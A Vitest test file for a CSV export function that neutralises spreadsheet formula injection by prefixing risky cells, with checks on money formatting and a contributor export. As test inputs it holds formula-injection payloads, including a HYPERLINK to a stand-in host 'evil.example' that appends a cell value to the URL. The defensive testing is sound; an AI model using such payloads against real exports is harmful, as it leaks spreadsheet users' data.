/** The one CSV writer: cells that a spreadsheet would run as a formula are neutralised. */
import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import { toCsv } from "~/csv.server";
import { formatDecimalEuros } from "~/domain/format";
import { contributionsCsv, type HolderContribution } from "~/holder/dashboard.server";

const TRIGGERS = ["=", "+", "-", "@", "\t", "\r", "\uFF1D", "\uFF0B", "\uFF0D", "\uFF20"];

describe("toCsv", () => {
  it("prefixes every text cell that starts like a formula, and only those", () => {
    const texts = [
      ...TRIGGERS.map((t) => `${t}HYPERLINK("http://evil.example";"Voir")`),
      "-12,50",
      "Marie-Claire",
      " =1+1",
      "a=b",
    ];
    const csv = toCsv(
      ["texte"],
      texts.map((t) => [t]),
      { delimiter: ";" },
    );
    const cells = (parse(csv, { delimiter: ";", from_line: 2, relax_quotes: true }) as string[][]).map(
      (r) => r[0],
    );
    expect(cells).toEqual([
      ...TRIGGERS.map((t) => `'${t}HYPERLINK("http://evil.example";"Voir")`),
      "'-12,50",
      "Marie-Claire",
      " =1+1",
      "a=b",
    ]);
  });

  it("never prefixes the platform's own numbers, negative ones included; money columns are formatted", () => {
    const csv = toCsv(
      ["n", "montant", "vide"],
      [
        [-3, -1250, null],
        [7, 99, ""],
      ],
      { money: { columns: ["montant"], format: formatDecimalEuros }, delimiter: ";" },
    );
    expect(csv).toBe("n;montant;vide\r\n-3;-12,50;\r\n7;0,99;\r\n");
    expect(() => toCsv(["n"], [[Number.NaN]])).toThrow(/not a number/);
    expect(() => toCsv(["n"], [[1]], { money: { columns: ["x"], format: String } })).toThrow(/no column/);
  });

  it("the holder's export: BOM, semicolons, a hostile name and message neutralised, amounts as numbers", () => {
    const item: HolderContribution = {
      id: 1,
      reference: "K-000001",
      paidAt: "2026-11-30T10:00:00.000Z",
      name: '=HYPERLINK("http://evil.example/?d="&C2;"Voir")',
      email: "a@example.org",
      amountCents: 2500,
      rewardId: 1,
      rewardTitle: "+ un sac",
      status: "paid",
      statusLabel: "Payée",
      message: "@SUM(1)",
    };
    const csv = contributionsCsv([item]);
    expect(csv.startsWith("\ufeff")).toBe(true);
    const [row] = parse(csv.slice(1), { delimiter: ";", columns: true }) as Array<Record<string, string>>;
    expect(row!["Nom"]).toBe(`'${item.name}`);
    expect(row!["Message"]).toBe("'@SUM(1)");
    expect(row!["Contrepartie"]).toBe("'+ un sac");
    expect(row!["Montant (€)"]).toBe("25,00");
  });
});
